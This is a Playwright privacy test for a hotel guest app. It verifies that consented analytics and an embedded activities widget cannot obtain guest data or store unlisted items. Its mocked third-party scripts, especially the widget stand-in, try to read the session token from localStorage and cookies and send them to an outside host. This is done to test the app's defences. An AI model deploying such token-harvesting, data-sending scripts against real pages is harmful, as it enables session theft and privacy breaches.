import type { BrowserContext, Page } from '@playwright/test'
import { parseStaticConfig } from '#src/config/config.ts'
import { inlineSources, headersAt, securityHeaders } from '#src/deploy/securityHeaders.ts'
import { paths } from '#src/navigation/paths.ts'
import { elena } from './elena.ts'
import { fillCart, logOut, order, signIn, toMyOrders } from './guest.ts'
import { expect, test } from './fixtures.ts'
import { text } from './texts.ts'

const personId = '1001'

/**
 * Replaces Google's script: like the original it loads a second script through its own Trusted Types policy, sends
 * everything that it is given and can read of the page, and sets its cookie.
 */
const googleScript = `(() => {
  const same = (text) => text
  const policy = trustedTypes.createPolicy('goog#html', { createHTML: same, createScript: same, createScriptURL: same })
  const second = document.createElement('script')
  second.src = policy.createScriptURL('https://www.googletagmanager.com/gtag/destination?id=G-TEST')
  document.head.append(second)
})()`

const googleSecondScript = `(() => {
  document.cookie = '_ga_TEST=GS1.1; path=/'
  const send = (command) => {
    const said = JSON.stringify([...command, document.title, document.referrer, location.href])
    fetch('https://www.google-analytics.com/g/collect?said=' + encodeURIComponent(said), { method: 'POST', mode: 'no-cors', keepalive: true, body: said })
  }
  const { push } = dataLayer
  dataLayer.push = (command) => (send(command), push.call(dataLayer, command))
  dataLayer.forEach(send)
})()`

/** Replaces GetYourGuide's script: it sends everything that it can read from within its frame. */
const widgetScript = `(() => {
  const attempt = (read) => { try { return read() } catch (error) { return error.name } }
  const seen = [() => localStorage['auth-storage'], () => document.cookie, () => parent.document.title, () => document.referrer, () => location.href].map(attempt)
  fetch('https://widget.getyourguide.com/seen?' + encodeURIComponent(seen.join(' ')))
  document.querySelector('[data-gyg-widget]').textContent = seen.join(' ')
})()`

/** What leaves the app: calls of the hotel's API, all other requests, console lines, and addresses in the history. */
interface Traffic {
  readonly calls: string[]
  readonly foreign: string[]
  readonly lines: string[]
  readonly addresses: string[]
}

/** Headers whose numbers may contain the guest's numbers by chance. */
const NUMERIC_HEADERS = new Set(['content-length', 'if-none-match', 'if-modified-since'])

async function recordTraffic(context: BrowserContext, page: Page, api: string): Promise<Traffic> {
  const traffic: Traffic = { calls: [], foreign: [], lines: [], addresses: [] }
  await context.route('https://www.googletagmanager.com/**', (route) => {
    const body = route.request().url().includes('/gtag/js') ? googleScript : googleSecondScript
    return route.fulfill({ contentType: 'text/javascript', body })
  })
  await context.route('https://www.google-analytics.com/**', (route) => route.fulfill({ status: 204 }))
  await context.route('https://*.getyourguide.com/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: widgetScript }),
  )
  context.on('request', (request) => {
    const url = decodeURIComponent(request.url())
    if (url.startsWith(api)) return void traffic.calls.push(url)
    const headers = Object.entries(request.headers()).filter(([name]) => !NUMERIC_HEADERS.has(name))
    traffic.foreign.push(
      `${request.method()} ${url} ${decodeURIComponent(JSON.stringify(headers))} ${request.postData() ?? ''}`,
    )
  })
  context.on('console', (message) => traffic.lines.push(message.text()))
  page.on('framenavigated', (frame) => traffic.addresses.push(decodeURIComponent(frame.url())))
  return traffic
}

/** Those of `words` that occur as whole words. */
function wordsIn(texts: readonly string[], words: readonly string[]): string[] {
  const joined = texts.join('\n')
  return words.filter((word) => new RegExp(`(?<![\\p{L}\\d])${word}(?![\\p{L}\\d])`, 'u').test(joined))
}

/** The names of everything stored for the page's site: storage keys, caches, databases and cookies. */
async function storedNames(page: Page): Promise<string[]> {
  const inPage = await page.evaluate(async () => [
    ...Object.keys(localStorage),
    ...Object.keys(sessionStorage),
    ...(await caches.keys()),
    ...(await indexedDB.databases()).map(({ name }) => `database ${name}`),
  ])
  const cookies = await page.context().cookies(page.url())
  return [...inPage, ...cookies.map(({ name }) => name)]
}

/** A pattern for the names that Settings list as stored. */
async function listedNames(page: Page): Promise<RegExp> {
  const names = (await page.getByRole('main').locator('code').allTextContents()).flatMap((each) => each.split(', '))
  return new RegExp(`^(?:${names.map((name) => name.replace('*', '.*')).join('|')})$`)
}

/** The cookie of the demo host's sandboxes; a deployed app sets none. */
const hostCookie = 'sandbox'

/** Configures page views, and sends the Content-Security-Policy of that configuration. */
async function countPageViews(context: BrowserContext): Promise<void> {
  const keys = { appName: 'Hotel', COMPANION_BASE_JAVA_URL: '/api', GA_TRACKING_ID: 'G-TEST' }
  const config = parseStaticConfig(keys)
  await context.route('**/config.json', (route) =>
    route.fulfill({ json: keys, headers: { 'cache-control': 'no-store' } }),
  )
  await context.route('**', async (route) => {
    const request = route.request()
    if (request.resourceType() !== 'document' || request.url().includes('/activities-widget/')) return route.fallback()
    const answer = await route.fetch()
    const inline = inlineSources(await answer.text())
    const { 'content-security-policy': policy = '' } = headersAt(securityHeaders(config, { inline }), '/')
    await route.fulfill({ response: answer, headers: { ...answer.headers(), 'content-security-policy': policy } })
  })
}

test.use({ allowedOnConsole: [/404.*customers\/rating/] })

test(
  'with consent to page views and the widget only the hotel receives guest data, and only what Settings list is stored',
  { tag: '@all' },
  async ({ page, context, host }) => {
    await countPageViews(context)
    const { calls, foreign, lines, addresses } = await recordTraffic(context, page, `${host.url}/api/`)
    const toOtherSites = () => foreign.filter((each) => !each.split(' ', 2)[1]?.startsWith(host.url))

    await page.goto(host.url + paths.activities)
    await page.getByRole('button', { name: text('activities:tours.agree') }).waitFor()
    expect(toOtherSites()).toEqual([])
    await page.goto(host.url + paths.settings)
    for (const choice of ['analytics', 'widget'])
      await page.getByRole('checkbox', { name: text(`settings:${choice}.label`) }).check()
    await expect.poll(() => toOtherSites().length).toBeGreaterThan(1)

    await page.goto(host.url + paths.roomService)
    await signIn(page)
    await fillCart(page)
    await order(page)
    await toMyOrders(page).click()
    await expect(page.getByText(/^Поръчка \d/).first()).toBeVisible()
    await page.goto(host.url + paths.reportProblem)
    await page.getByLabel(text('reportProblem:message')).fill('Кранът капе')
    await page.goto(host.url + paths.activities)
    await expect(page.frameLocator('iframe').getByText('SecurityError')).toBeVisible()
    await page.goto(host.url + paths.settings)
    await expect(page.getByText(text('settings:storedNow')).first()).toBeAttached()

    const token = await page.evaluate(
      () => localStorage.getItem('auth-storage')?.match(/"sessionId":"([^"]+)"/)?.[1] ?? '',
    )
    expect(token.length).toBeGreaterThan(20)
    const guest = [
      token,
      personId,
      elena.accountNumber,
      elena.roomNumber,
      elena.fullName,
      elena.fullName.split(' ')[0] ?? '',
    ]
    expect(wordsIn(toOtherSites(), ['page_view', 'SecurityError', '/room-service/success'])).toHaveLength(3)
    expect.soft(wordsIn(foreign, guest), 'in requests other than to the API').toEqual([])
    expect.soft(wordsIn(lines, guest), 'on the console').toEqual([])
    expect.soft(wordsIn(addresses, guest), 'in an address of the history').toEqual([])
    expect
      .soft(wordsIn(calls, guest), 'in an address of the API, whose paths name the guest (spec 7)')
      .toEqual([personId])

    const isListed = await listedNames(page)
    const stored = await storedNames(page)
    expect
      .soft(
        stored.filter((name) => !isListed.test(name)),
        'stored, and not listed',
      )
      .toEqual([hostCookie])
    for (const name of ['auth-storage', 'companion-draft-problem', 'companion-consent', '_ga_TEST'])
      expect(stored).toContain(name)
    await page.getByRole('button', { name: text('settings:wipe.button') }).click()
    await Promise.all([
      page.waitForEvent('load'),
      page
        .getByRole('dialog')
        .getByRole('button', { name: text('settings:wipe.confirm') })
        .click(),
    ])
    const { length } = toOtherSites()
    const storedAgain = async () =>
      (await storedNames(page)).filter((name) => !name.startsWith('companion-offline-getMenus-')) // requested again by any page
    await expect
      .poll(async () => (await storedAgain()).toSorted())
      .toEqual(['auth-storage', 'companion-config', 'companion-guest-scope', 'companion-scroll', hostCookie])
    await expect(page.getByRole('checkbox', { checked: false })).toHaveCount(2)
    await logOut(page)
    expect(toOtherSites()).toHaveLength(length)

    await page.goto(`${host.url}/activities-widget/widget.html`)
    await expect(page.getByText(/^SecurityError SecurityError /), 'also when it is opened directly').toBeVisible()
  },
)
